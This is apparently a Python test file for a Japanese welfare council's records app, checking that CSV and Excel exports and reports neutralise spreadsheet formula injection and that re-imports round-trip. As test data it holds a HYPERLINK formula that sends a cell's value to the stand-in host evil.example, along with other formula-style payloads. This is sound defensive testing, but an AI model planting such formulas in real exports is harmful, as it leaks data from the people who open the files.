"""Formula injection (issue 13, finding 4): every text cell of an export or a report is written as text, never
as a formula, and a cell that a spreadsheet would read as one is escaped with a leading '; the import reads
its own export back."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from importlib import resources
from pathlib import Path

import openpyxl

from core.counts import Counts
from core.periods import fiscal_year
from core.taxonomy import DEFAULT_TAXONOMY, Taxonomy, parse_taxonomy
from reports.cells import safe_text, unescape
from reports.render_csv import render_csv_bytes
from reports.render_xlsx import render_xlsx
from reports.tally import build_report
from services.exports import export_header, write_csv, write_xlsx
from services.imports import import_file
from storage.sqlite.records import export_rows
from storage.sqlite.store import Store
from storage.types import EXPORT_COLUMNS

TODAY = date(2026, 11, 23)
NOW = datetime(2026, 11, 23, 1, 0, tzinfo=UTC)
STAMP = "2026-11-23T01:00:00.000000Z"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"-?\d+(\.\d+)?")

HYPERLINK = '=HYPERLINK("http://evil.example/?"&D2,"詳細")'
# Labels of the council's taxonomy file (area, every dimension, a consulter sub-category) that a spreadsheet
# would take for formulas. (Labels are stripped when the file is read, so none starts with a tab or CR.)
HOSTILE_LABELS = {
    "境南町": HYPERLINK,  # area kyonan
    "活動先への出向き・参加": "+1+1",  # activity outing
    "高齢者サロン": "-高齢者サロン",  # destination salon-elderly
    "電話": "@電話",  # channel phone
    "ボランティア希望（活動）者からの相談": "=1+1",  # consulter volunteer
    "寄付（寄贈）したい": "-2+3",  # consulter_category volunteer/donate
    "居場所づくりに関する事": "＝全角の等号",  # topic ibasho
    "子ども政策課": "@SUM(A1)",  # agency children
    "高齢者支援課": "+81-3-1234-5678",  # agency elderly
}
# Staff names as a Telegram display name or an imported file may give them.
HOSTILE_NAMES = (HYPERLINK, "+81 90 1234", "-1", "@admin", "\t=1+1", "\r=1+1", "'=already quoted", "山田 花子")
IMPORTABLE_NAMES = tuple(n for n in HOSTILE_NAMES if "\t" not in n and "\r" not in n)


def hostile_taxonomy() -> Taxonomy:
    text = resources.files("core").joinpath(DEFAULT_TAXONOMY).read_text(encoding="utf-8")
    for label, hostile in HOSTILE_LABELS.items():
        before = f'label = "{label}"'
        assert text.count(before) == 1, label
        text = text.replace(before, f"label = '{hostile}'")
    return parse_taxonomy(text, "hostile")


TAXONOMY = hostile_taxonomy()


async def seed(store: Store, names: tuple[str, ...]) -> int:
    """One outing and one consultation for each name, every category one with a hostile label; returns rows."""
    async with store.db.transaction() as tx:
        for i, name in enumerate(names):
            staff = await tx.execute(
                "INSERT INTO staff (name, role, active, imported, created_at) VALUES (?, 'staff', 0, 1, ?) "
                "RETURNING id",
                (name, STAMP),
            )
            staff_id = staff.rows[0][0]
            day = f"2025-06-{1 + i:02d}"
            await tx.execute(
                "INSERT INTO outings (staff_id, date, area, activity, destination, headcount, created_at) "
                "VALUES (?, ?, 'kyonan', 'outing', 'salon-elderly', ?, ?)",
                (staff_id, day, 10 + i, STAMP),
            )
            consultation = await tx.execute(
                "INSERT INTO consultations (staff_id, date, area, channel, consulter, consulter_category, topic, "
                "at_outing, created_at) VALUES (?, ?, 'kyonan', 'phone', 'volunteer', 'donate', 'ibasho', 0, ?) "
                "RETURNING id",
                (staff_id, day, STAMP),
            )
            consultation_id = consultation.rows[0][0]
            await tx.executemany(
                "INSERT INTO consultation_agencies (consultation_id, agency) VALUES (?, ?)",
                [(consultation_id, "children"), (consultation_id, "elderly")],
            )
    return 2 * len(names)


def check_csv_cells(rows: list[list[str]], numeric_columns: frozenset[int] = frozenset()) -> int:
    """No cell a spreadsheet would read as a formula; negative numbers are allowed, as numbers, where numbers go."""
    checked = 0
    for row in rows:
        for at, value in enumerate(row):
            checked += 1
            if at in numeric_columns and NUMBER.fullmatch(value):
                continue
            assert len(value) < 2 or not value.startswith(DANGEROUS), (row, value)
    return checked


def check_workbook(data: bytes | Path) -> tuple[int, int]:
    """No formula cell and no string cell starting with a formula character; (strings, numbers) seen."""
    book = openpyxl.load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    strings = numbers = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.data_type == "s" and isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS), (sheet.title, cell.coordinate, cell.value)
                    strings += 1
                elif cell.data_type == "n" and cell.value is not None:
                    numbers += 1
    return strings, numbers


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as source:
        return list(csv.reader(source))


# ---- the helper ----


def test_text_starting_with_a_formula_character_gets_one_quote_and_the_import_takes_it_off() -> None:
    for value in (HYPERLINK, "+1", "-1", "@a", "\tx", "\rx", "＝x", "'=x", "''+x"):
        escaped = safe_text(value)
        assert escaped == "'" + value
        assert unescape(escaped) == value
    for value in ("", "山田", "o-0123", "2025-06-01", "'quoted", "a=b", " =x", "'"):
        assert safe_text(value) == value
        assert unescape(value) == value


# ---- fieldbot export ----


async def test_export_csv_and_xlsx_hold_no_formula_and_no_unescaped_formula_text(store: Store, tmp_path: Path) -> None:
    rows = await seed(store, HOSTILE_NAMES)
    year = fiscal_year(2025)

    csv_path = tmp_path / "fy2025.csv"
    assert await write_csv(export_rows(store.db, year.start, year.end), TAXONOMY, csv_path) == rows
    table = read_csv(csv_path)
    assert table[0] == export_header()  # the Japanese header of each of EXPORT_COLUMNS
    assert len(table) == rows + 1
    check_csv_cells(table)
    staff = EXPORT_COLUMNS.index("staff")
    assert {unescape(r[staff]) for r in table[1:]} == set(HOSTILE_NAMES)
    assert "'" + HYPERLINK in {r[EXPORT_COLUMNS.index("area")] for r in table[1:]}

    xlsx_path = tmp_path / "fy2025.xlsx"
    assert await write_xlsx(export_rows(store.db, year.start, year.end), TAXONOMY, xlsx_path, year.label) == rows
    strings, numbers = check_workbook(xlsx_path)
    assert numbers == len(HOSTILE_NAMES)  # headcounts stay numbers
    sheet = openpyxl.load_workbook(xlsx_path).worksheets[0]
    values = [[c.value for c in r] for r in sheet.iter_rows()]
    # The same cells as the CSV, the date a date cell.
    assert [v.date().isoformat() if isinstance(v, datetime) else "" if v is None else str(v) for v in values[1]] == (
        table[1]
    )
    assert strings > rows


# ---- report tables ----


def hostile_report_counts() -> tuple[Counts, Counts]:
    current = Counts(
        activity={"outing": 3},
        destination={"salon-elderly": 3},
        channel={"phone": 2},
        consulter={"volunteer": 2},
        consulter_category={("volunteer", "donate"): 2},
        topic={"ibasho": 1},
        agency={"children": 1, "elderly": 2},
        outings=3,
        consultations=2,
    )
    previous = Counts(
        activity={"outing": 5},
        destination={"salon-elderly": 4},
        channel={"phone": 4},
        consulter={"volunteer": 4},
        consulter_category={("volunteer", "donate"): 4},
        topic={"ibasho": 3},
        agency={"children": 3, "elderly": 2},
        outings=5,
        consultations=4,
    )
    return current, previous


def test_report_csv_and_xlsx_write_category_labels_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
    current, previous = hostile_report_counts()
    report = build_report(TAXONOMY, fiscal_year(2025), current, fiscal_year(2024), previous)

    rows = list(csv.reader(io.StringIO(render_csv_bytes(report).decode("utf-8-sig"), newline="")))
    header = next(i for i, r in enumerate(rows) if len(r) == 8 and r[1] == "コード")
    # count, previous, delta and rank are numbers (deltas negative here); every other cell is text.
    check_csv_cells(rows[:header])
    check_csv_cells(rows[header:], numeric_columns=frozenset({3, 4, 5, 6}))
    body = rows[header + 1 :]
    assert ["関係機関", "children", "'@SUM(A1)", "1", "3", "-2", "2", ""] in body
    assert any(r[0] == "相談者種別/=1+1" and r[2] == "'-2+3" and r[5] == "-2" for r in body), body

    path = tmp_path / "report.xlsx"
    render_xlsx(report, path)
    _, numbers = check_workbook(path)
    assert numbers > 0
    sheet = openpyxl.load_workbook(path)["関係機関"]
    table = [[c.value for c in r] for r in sheet.iter_rows(min_row=7)]
    assert [2, "'@SUM(A1)", 1, 3, -2] in table  # the delta is the number -2, not text


# ---- the import reads its own export ----


async def table_counts(store: Store) -> tuple[int, int, int]:
    found = []
    for table in ("outings", "consultations", "consultation_agencies"):
        row = await store.db.fetchone(f"SELECT COUNT(*) FROM {table}")
        assert row is not None
        found.append(int(row[0]))
    return found[0], found[1], found[2]


async def imported_names(store: Store) -> set[str]:
    return {r[0] for r in await store.db.fetchall("SELECT name FROM staff WHERE imported = 1")}


async def test_an_export_with_hostile_names_and_labels_imports_into_a_fresh_database(
    store: Store, tmp_path: Path
) -> None:
    rows = await seed(store, IMPORTABLE_NAMES)
    year = fiscal_year(2025)
    exported = tmp_path / "fy2025.csv"
    await write_csv(export_rows(store.db, year.start, year.end), TAXONOMY, exported)
    xlsx = tmp_path / "fy2025.xlsx"
    await write_xlsx(export_rows(store.db, year.start, year.end), TAXONOMY, xlsx, year.label)
    # The workbook saved as CSV from a spreadsheet: the same cells, quotes included.
    resaved = tmp_path / "fy2025 from xlsx.csv"
    with resaved.open("w", encoding="utf-8-sig", newline="") as out:
        writer = csv.writer(out, lineterminator="\r\n")
        for values in openpyxl.load_workbook(xlsx).worksheets[0].iter_rows(values_only=True):
            writer.writerow("" if v is None else v for v in values)

    expected = await table_counts(store)
    assert expected == (rows // 2, rows // 2, rows)
    for source in (exported, resaved):
        fresh = await Store.open(tmp_path / f"fresh {source.stem}.sqlite3")
        try:
            report = await import_file(fresh, TAXONOMY, "records", source, dry_run=False, today=TODAY, now=NOW)
            assert report.ok, report.errors
            assert await table_counts(fresh) == expected
            assert await imported_names(fresh) == set(IMPORTABLE_NAMES)
            areas = await fresh.db.fetchall("SELECT DISTINCT area FROM outings UNION SELECT area FROM consultations")
            assert [r[0] for r in areas] == ["kyonan"]
            categories = await fresh.db.fetchall(
                "SELECT DISTINCT consulter, consulter_category, topic, channel FROM consultations"
            )
            # The topic kept on these volunteers' consultations from before only agency consultations had one
            # is counted nowhere, and not exported (the import refuses a topic on another group's row).
            assert [tuple(r) for r in categories] == [("volunteer", "donate", None, "phone")]
        finally:
            await fresh.close()
